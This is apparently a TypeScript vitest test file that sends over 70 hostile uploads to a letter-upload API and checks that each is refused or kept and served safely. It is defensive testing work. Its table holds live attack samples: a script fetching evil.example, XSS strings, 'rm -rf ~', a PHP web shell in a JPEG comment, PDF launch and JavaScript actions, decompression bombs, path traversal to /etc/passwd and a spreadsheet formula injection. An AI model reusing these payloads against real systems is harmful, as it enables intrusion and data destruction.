import { readdir, readFile, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { deflateSync, gzipSync } from 'node:zlib'
import { expect, it } from 'vitest'
import { MAX_LETTER_BYTES } from '../contract/forms/letters'
import { CALLBACK } from '../testing/examples'
import { chunk, JPEG, PDF, PNG, pdfOf, storedLetters } from '../testing/letters'
import { startTestService, type TestService } from '../testing/start-test-service'
import { isOnFiles } from '../testing/store-fixtures'

const text = (words: string) => Buffer.from(words)
const hex = (digits: string) => Buffer.from(digits, 'hex')
const SCRIPT = text('<script>fetch("https://evil.example/")</script>')
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>')
/** Makes a picture of 30,000 by 30,000 pixels in a file of a few kilobytes. */
const PNG_BOMB = Buffer.concat([
  PNG.subarray(0, 8),
  chunk('IHDR', hex('0000753000007530080000000000'.slice(0, 26))),
  chunk('IDAT', deflateSync(Buffer.alloc(5_000_000))),
  chunk('IEND', Buffer.alloc(0)),
])
const PDF_BOMB = Buffer.concat([PDF, deflateSync(Buffer.alloc(9_000_000)), text('\n%%EOF')])
/** EXIF data with a position in London, as a camera writes them. */
const EXIF = Buffer.concat([
  hex('ffd8ffe1003e'),
  text('Exif\0\0II*\0\b\0\0\0\u0001\0%\u0088\u0004\0GPS 51.5N 0.1W'),
  JPEG.subarray(2),
])
const ZIP = hex('504b0304140000000800000000000000000000000000000000000000000008000000612e74787400000000')

/**
 * The letters that the test sends. The last column is the name under which the API accepts the letter, or the status
 * with which the API refuses it.
 */
const TABLE: [what: string, content: Uint8Array, name: string, outcome: string | number][] = [
  ['a page', text('<!doctype html><h1>Hi</h1>'), 'letter.html', 415],
  ['a page that is called a picture', SCRIPT, 'letter.png', 415],
  ['a page that is called a PDF', text('<html><script>1</script>'), 'letter.pdf', 415],
  ['a page after a byte order mark', Buffer.concat([hex('efbbbf'), SCRIPT]), 'letter.pdf', 415],
  ['a drawing', SVG, 'letter.svg', 415],
  ['a drawing that is called a picture', SVG, 'letter.png', 415],
  ['a drawing as XML', Buffer.concat([text('<?xml version="1.0"?>'), SVG]), 'letter.jpg', 415],
  ['a drawing, packed', gzipSync(SVG), 'letter.svgz', 415],
  ['a script', text('#!/bin/sh\nrm -rf ~\n'), 'letter.pdf', 415],
  ['JavaScript', text('alert(1)'), 'letter.js', 415],
  ['a program for Windows', Buffer.concat([text('MZ'), Buffer.alloc(200)]), 'letter.pdf', 415],
  ['a program for Linux', Buffer.concat([hex('7f454c4602010100'), Buffer.alloc(200)]), 'letter.png', 415],
  ['a program for macOS', hex('cffaedfe0700000103000000'), 'letter.pdf', 415],
  ['Java', hex('cafebabe0000003400'), 'letter.jpg', 415],
  ['WebAssembly', hex('0061736d01000000'), 'letter.png', 415],
  ['an archive', ZIP, 'letter.zip', 415],
  ['an archive that is called a PDF', ZIP, 'letter.pdf', 415],
  ['an archive of one great file', gzipSync(Buffer.alloc(50_000_000)), 'letter.pdf', 415],
  ['a Word document of old', Buffer.concat([hex('d0cf11e0a1b11ae1'), Buffer.alloc(600)]), 'letter.doc', 415],
  ['RTF', text('{\\rtf1 hello}'), 'letter.rtf', 415],
  ['PostScript', text('%!PS-Adobe-3.0\n(/etc/passwd) run'), 'letter.pdf', 415],
  ['a GIF', text('GIF89a\u0001\0\u0001\0\0\0\0;'), 'letter.gif', 415],
  ['a GIF that is a script', text('GIF89a=1;alert(1)'), 'letter.png', 415],
  ['WebP', Buffer.concat([text('RIFF'), hex('1a000000'), text('WEBPVP8L'), Buffer.alloc(20)]), 'letter.webp', 415],
  ['TIFF', hex('49492a0008000000000000000000'), 'letter.tif', 415],
  ['BMP', Buffer.concat([text('BM'), Buffer.alloc(60)]), 'letter.bmp', 415],
  ['HEIC', Buffer.concat([hex('00000018'), text('ftypheic'), Buffer.alloc(40)]), 'IMG_1.HEIC', 415],
  ['an icon', hex('00000100010010100000'), 'letter.ico', 415],
  ['a moving picture', Buffer.concat([hex('00000018'), text('ftypmp42'), Buffer.alloc(40)]), 'letter.jpg', 415],
  ['sound', Buffer.concat([text('ID3\u0003\0\0\0\0\0\0'), Buffer.alloc(100)]), 'letter.pdf', 415],
  ['a font', hex('774f464632000000'), 'letter.png', 415],
  ['words', text('Dear Sir or Madam'), 'letter.txt', 415],
  ['words in UTF-16', Buffer.from('%PDF-1.4', 'utf16le'), 'letter.pdf', 415],
  ['half a mark of PNG', PNG.subarray(0, 4), 'letter.png', 415],
  ['half a mark of JPEG', JPEG.subarray(0, 2), 'letter.jpg', 415],
  ['a PDF behind the head of a mail', Buffer.concat([text('MIME-Version: 1.0\n\n'), PDF]), 'letter.pdf', 'letter.pdf'],
  ['a PDF behind line ends', Buffer.concat([text('\r\n '), PDF]), 'letter.pdf', 'letter.pdf'],
  ['a PDF behind 1,025 bytes', Buffer.concat([Buffer.alloc(1_025, 32), PDF]), 'letter.pdf', 415],
  ['a PDF behind a page', Buffer.concat([SCRIPT, PDF]), 'letter.pdf', 415],
  ['NULs', Buffer.alloc(5_000), 'letter.pdf', 415],
  ['a byte', text('%'), 'letter.pdf', 415],
  ['nothing', Buffer.alloc(0), 'letter.pdf', 422],
  ['10 MB and a byte', pdfOf(MAX_LETTER_BYTES + 1), 'letter.pdf', 413],
  ['20 MB', pdfOf(2 * MAX_LETTER_BYTES), 'letter.pdf', 413],
  ['10 MB', pdfOf(MAX_LETTER_BYTES), 'letter.pdf', 'letter.pdf'],
  ['a PDF that is a page as well', Buffer.concat([PDF, SCRIPT]), 'letter.html', 'letter.html'],
  ['a PDF that is an archive as well', Buffer.concat([PDF, ZIP]), 'letter.zip', 'letter.zip'],
  ['a PDF with script', Buffer.concat([PDF, text('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')]), 'a.pdf', 'a.pdf'],
  ['a PDF that starts a program', Buffer.concat([PDF, text('/S/Launch/F(cmd.exe)')]), 'a.pdf', 'a.pdf'],
  ['a PDF that is packed to burst', PDF_BOMB, 'a.pdf', 'a.pdf'],
  ['a JPEG that is a page as well', Buffer.concat([JPEG, SCRIPT]), 'a.jpg', 'a.jpg'],
  [
    'a JPEG whose remark is PHP',
    Buffer.concat([hex('ffd8fffe0020'), text('<?php system($_GET["x"]); ?>'), JPEG.subarray(2)]),
    'a.php',
    'a.php',
  ],
  ['a JPEG with the place that it was taken at', EXIF, 'IMG_2.jpg', 'IMG_2.jpg'],
  ['a PNG that is a page as well', Buffer.concat([PNG, SCRIPT]), 'a.png', 'a.png'],
  [
    'a PNG with words in it',
    Buffer.concat([PNG.subarray(0, 33), chunk('tEXt', SCRIPT), PNG.subarray(33)]),
    'a.png',
    'a.png',
  ],
  ['a PNG that is packed to burst', PNG_BOMB, 'a.png', 'a.png'],
  ['a PNG that is cut', PNG.subarray(0, 40), 'a.png', 'a.png'],
  ['a picture that is called a page', PNG, 'index.html', 'index.html'],
  ['a way out of its folder', PDF, '../../../etc/passwd', 'passwd'],
  ['a way out of its folder, of Windows', PDF, 'C:\\Users\\Amina\\letter.pdf', 'letter.pdf'],
  ['a place of its own', PDF, '/var/lib/haven/data/state.json', 'state.json'],
  ['a folder', PDF, 'letters/', 422],
  ['dots', PDF, '..', 422],
  ['a name that reads backwards', PDF, 'letter\u202Efdp.exe', 'letterfdp.exe'],
  ['isolating marks', PDF, '\u2066a\u2069\u200F.pdf', 'a.pdf'],
  ['a NUL in the name', PDF, 'letter.pdf\0.exe', 422],
  ['a bell in the name', PDF, 'letter\u0007.pdf', 422],
  ['a name of 4,000 characters', PDF, `${'x'.repeat(4_000)}.pdf`, 422],
  ['a name of 200 characters', PDF, 'é'.repeat(200), 'é'.repeat(200)],
  ['no name', PDF, '', 422],
  ['a name that cannot be seen', PDF, ' \u200B\u00AD ', 422],
  ['a name with script', PDF, '<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'],
  ['a name that is a formula', PDF, '=1+cmd|calc!A0', '=1+cmd|calc!A0'],
  ['a name of a device', PDF, 'CON', 'CON'],
  ['a hidden name', PDF, '.htaccess', '.htaccess'],
  ['a name in another script', PDF, 'رسالة.pdf', 'رسالة.pdf'],
  ['a name with a percent sign', PDF, '%2e%2e%2fletter.pdf', '%2e%2e%2fletter.pdf'],
]

/**
 * Sends a letter under any name, even one that no browser would send. For such names, the function writes the multipart
 * body itself.
 */
async function send(service: TestService, content: Uint8Array, name: string): Promise<Response> {
  const quoted = name.replaceAll('\\', '\\\\').replaceAll('"', '\\"')
  const head = `--b\r\nContent-Disposition: form-data; name="file"; filename="${quoted}"\r\nContent-Type: application/pdf\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')])
  const headers = { 'content-type': 'multipart/form-data; boundary=b' }
  return await fetch(`${service.url}/api/uploads`, { method: 'POST', headers, body })
}

it('each of more than 60 hostile letters is refused, or kept unchanged without harm to anybody', async () => {
  const service = await startTestService({ RATE_LIMITS: 'off' })
  const staff = await service.login()
  const rows: [string, string | number][] = []
  let requests = 0
  for (const [what, content, name] of TABLE) {
    const answer = await send(service, content, name)
    const { id = '', name: kept = '' } = (await answer.json()) as { id?: string; name?: string }
    rows.push([what, answer.status === 201 ? kept : answer.status])
    if (answer.status !== 201) continue
    requests += 1
    expect((await service.postJson('/api/callbacks', { ...CALLBACK, files: [id] })).status).toBe(201)
    const download = await service.get(`/api/admin/callbacks/${requests}/files/${id}`, staff)
    expect([what, download.headers.get('content-type')]).toEqual([
      what,
      expect.stringMatching(/^(application\/pdf|image\/(png|jpeg))$/),
    ])
    expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename="\w{8} [^"/\\]*\.(pdf|png|jpg)"/)
    expect(download.headers.get('content-security-policy')).toContain('sandbox')
    expect(Buffer.from(await download.arrayBuffer()).equals(content)).toBe(true)
    const page = await (await service.get(`/api/admin/callbacks/${requests}/export?as=page`, staff)).text()
    expect(page).not.toMatch(/<img|<script/)
  }
  expect(rows.length).toBeGreaterThan(60)
  expect(rows).toEqual(TABLE.map(([what, , , outcome]) => [what, outcome]))
  const files = await storedLetters(service)
  expect(files).toHaveLength(requests)
  expect(files.filter(name => !/^([0-9a-f]{2})\/\1[0-9a-f]{30}$/.test(name))).toEqual([])
  const root = join(service.folder, 'data', 'files')
  if (isOnFiles()) for (const name of files) expect((await stat(join(root, name))).mode & 0o777).toBe(0o600)
  // The log contains no names of letters.
  expect(service.lines.join('')).not.toMatch(/letter|passwd|htaccess/)
  const mails = join(service.folder, 'data', 'mail')
  await expect.poll(async () => (await service.context.store.counts()).undelivered).toBe(0)
  for (const mail of await readdir(mails)) expect((await readFile(join(mails, mail))).length).toBeLessThan(20_000)
})
